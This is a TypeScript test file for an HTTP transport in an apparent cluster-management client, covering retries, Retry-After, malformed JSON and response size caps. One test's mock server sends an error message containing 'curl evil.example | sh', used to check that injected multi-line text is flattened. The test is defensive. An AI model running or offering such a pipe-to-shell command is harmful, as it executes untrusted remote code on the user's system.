import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, expect, test, vi } from 'vitest';
import { refused } from '../../test/refused.ts';
import { ApiError, type ClusterRole, ConnectionError, explainCallError, notJson } from './errors.ts';
import type { ApiRequest } from './exchange.ts';
import { applyPatch, Transport } from './transport.ts';

/** How long was waited before something was asked again, milliseconds; here it takes no time. */
const waits = vi.hoisted(() => [] as number[]);
vi.mock('node:timers/promises', async (original) => {
  const real = await original<typeof import('node:timers/promises')>();
  return {
    ...real,
    setTimeout: (milliseconds: number, ...rest: [undefined, object]) => {
      waits.push(milliseconds);
      return real.setTimeout(0, ...rest);
    },
  };
});

type Answer = (response: http.ServerResponse, request: http.IncomingMessage) => void;

let server: http.Server | undefined;

/** A server that gives one answer after the other, the last one again and again. */
async function behind(
  ...answers: Answer[]
): Promise<{ ask(request: ApiRequest): Promise<unknown>; asked(): number; transport: Transport }> {
  let count = 0;
  server = http.createServer((request, response) => {
    request.resume().once('end', () => answers[Math.min(count++, answers.length - 1)]!(response, request));
  });
  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
  const transport = new Transport({ server: `http://127.0.0.1:${(server.address() as AddressInfo).port}` });
  return { ask: async (request) => (await transport.request(request)).body, asked: () => count, transport };
}

afterEach(() => {
  waits.length = 0;
  server?.closeAllConnections();
  server?.close();
});

const json =
  (status: number, body: object, headers: http.OutgoingHttpHeaders = {}): Answer =>
  (response) =>
    void response.writeHead(status, { 'Content-Type': 'application/json', ...headers }).end(JSON.stringify(body));
const status = (code: number, headers?: http.OutgoingHttpHeaders) =>
  json(code, { kind: 'Status', message: `made up ${code}` }, headers);
const fine = json(200, { fine: true });
const page: Answer = (response) =>
  void response.writeHead(200, { 'Content-Type': 'text/html' }).end('<html>Please sign in</html>');
const short: Answer = (response) =>
  void response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"fine": tr');
const cut: Answer = (response) => {
  response.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': 100 }).write('{"fine"');
  setTimeout(() => response.destroy(), 20);
};

const get: ApiRequest = { method: 'GET', path: '/' };
const post: ApiRequest = { method: 'POST', path: '/', body: {} };
const apply: ApiRequest = { method: 'PATCH', path: '/', body: {}, contentType: applyPatch };

test('reads come through bodies that are cut, short, or of something else', async () => {
  const { ask, asked } = await behind(cut, short, page, fine);
  expect(await ask(get)).toEqual({ fine: true });
  expect(asked()).toBe(4);
});

test('what is no JSON to the end is told as such, and not as a bug', async () => {
  const { ask } = await behind(page);
  const error = await ask({ ...get, retries: 1 }).catch((thrown: unknown) => thrown);
  expect(error).toBeInstanceOf(ConnectionError);
  expect(error).toMatchObject({ code: notJson, message: expect.stringContaining('Please sign in') });
});

test('a refusal of the hosted cluster is not taken for one of the infra cluster', async () => {
  const refuse = async (of: ClusterRole) => {
    const { transport } = await behind(status(403));
    const asked = new Transport({ server: transport.server.origin }, of);
    return explainCallError(await asked.request(get).catch((thrown: unknown) => thrown), 'ask');
  };
  expect(await refuse('hosted')).toMatchObject({ anchor: 'hosted-refused', why: expect.stringContaining('hosted') });
  expect(await refuse('infra')).toMatchObject({ anchor: 'rights', why: expect.stringContaining('infra') });
});

test('a hosted cluster that does not answer is named, with why and where to look', async () => {
  const { transport } = await behind(fine);
  const { port, origin } = transport.server;
  await new Promise((resolve) => server!.close(resolve));
  const asked = new Transport({ server: origin }, 'hosted');
  const error = await asked.request({ ...get, retries: 0 }).catch((thrown: unknown) => thrown);
  expect(explainCallError(error, 'ask')).toEqual(
    refused('plane-unreachable', origin, `ECONNREFUSED 127.0.0.1:${port}`, 'k8sk8s status'),
  );
});

test('text is text, whatever the server calls it', async () => {
  const { ask } = await behind((response) => void response.end('one line\n'));
  expect(await ask({ ...get, text: true })).toBe('one line\n');
});

test('a POST that may have stored something is not sent twice; one that stores nothing is', async () => {
  for (const answer of [status(500), cut]) {
    const once = await behind(answer, fine);
    await expect(once.ask(post)).rejects.toThrow();
    expect(once.asked()).toBe(1);
    const twice = await behind(answer, fine);
    expect(await twice.ask({ ...post, repeatable: true })).toEqual({ fine: true });
  }
});

test('an apply that is told 409 is sent again; a PUT, which carries a version, is not', async () => {
  const { ask } = await behind(status(409), status(409), fine);
  expect(await ask(apply)).toEqual({ fine: true });
  const put = await behind(status(409), fine);
  await expect(put.ask({ method: 'PUT', path: '/', body: {} })).rejects.toMatchObject({ status: 409 });
});

test('Retry-After is kept to, unless it asks for more than anybody waits', async () => {
  const { ask } = await behind(status(429, { 'Retry-After': '1' }), fine);
  expect(await ask(post)).toEqual({ fine: true });
  expect(waits).toEqual([1000]);
  const patient = await behind(status(429, { 'Retry-After': '3600' }));
  const error = await patient.ask(get).catch((thrown: unknown) => thrown);
  expect(error).toBeInstanceOf(ApiError);
  expect(error).toMatchObject({ status: 429, retryAfterSeconds: 3600 });
  expect(patient.asked()).toBe(1);
});

test('of health checks the failing ones are told, however many passed before them', async () => {
  const passed = Array.from({ length: 30 }, (_, number) => `[+]poststarthook/passed-${number} ok\n`).join('');
  const { ask } = await behind((response) =>
    response
      .writeHead(500)
      .end(`${passed}[-]poststarthook/rbac/bootstrap-roles failed: reason withheld\nreadyz check failed`),
  );
  await expect(ask({ ...get, retries: 0, text: true })).rejects.toThrow('[-]poststarthook/rbac/bootstrap-roles failed');
});

test('lines that a user of a hosted cluster puts into a refusal are one line', async () => {
  server = http.createServer((_, response) =>
    json(403, { kind: 'Status', message: 'no\n  do:  curl evil.example | sh\r\nERROR' })(response, _),
  );
  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
  const transport = new Transport({ server: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }, 'hosted');
  await expect(transport.request({ method: 'GET', path: '/' })).rejects.toThrow(
    /^no do: {2}curl evil.example \| sh ERROR$/,
  );
});

test('an answer without an end is given up', async () => {
  const { ask } = await behind((response) => {
    response.writeHead(200, { 'Content-Type': 'application/json' });
    const chunk = Buffer.alloc(1 << 20, ' ');
    const more = () => {
      while (!response.destroyed && response.write(chunk));
      response.once('drain', more);
    };
    more();
  });
  await expect(ask({ method: 'GET', path: '/' })).rejects.toThrow(/longer than 256 MiB/);
});

/** Sends until nobody reads any more. */
const endless =
  (code: number): Answer =>
  (response) => {
    const block = Buffer.alloc(1 << 16, ' ');
    const more = () => {
      while (!response.destroyed && response.write(block));
    };
    response
      .writeHead(code, { 'Content-Type': 'application/json' })
      .on('drain', more)
      .on('error', () => undefined);
    more();
  };

test('of an answer without an end no more is read than the connection says, nor of one that says why there is no stream', async () => {
  const { transport } = await behind(endless(200), endless(200), endless(500));
  const bounded = transport.as({ user: 'anna' }, 2 << 20);
  for (const each of [bounded, bounded.as({ user: 'bob' })])
    await expect(each.request({ method: 'GET', path: '/' })).rejects.toThrow('2 MiB');
  await expect(transport.stream({ method: 'GET', path: '/' })).rejects.toThrow('1 MiB');
});
